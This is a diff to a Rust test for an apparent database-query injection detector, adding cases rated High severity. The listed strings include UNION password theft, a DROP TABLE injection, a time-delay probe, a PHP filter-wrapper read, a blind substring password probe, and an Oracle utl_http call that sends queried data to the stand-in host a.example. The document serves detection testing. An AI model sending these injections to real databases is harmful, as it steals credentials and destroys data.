@@ -143,6 +143,15 @@ fn a_whole_question_to_a_database_is_evidence_and_one_that_breaks_out_more() {
         ("SELECT a FROM t UNION SELECT password FROM users", Severity::High),
         ("SELECT a FROM t; DROP TABLE users--", Severity::High),
         ("SELECT sleep(9)", Severity::High),
+        (
+            "select a from b where c='php://filter/convert.base64-encode/resource=index'",
+            Severity::High,
+        ),
+        (
+            "select utl_http.request('http://a.example/'||(select p from u)) from dual",
+            Severity::High,
+        ),
+        ("select case when substr(password,1,1)='a' then 1 else 2 end from users", Severity::High),
         ("x' AND (SELECT a FROM t LIMIT 1)='b'-- ", Severity::High),
     ] {
         let body = format!("{{\"q\":\"{text}\"}}");
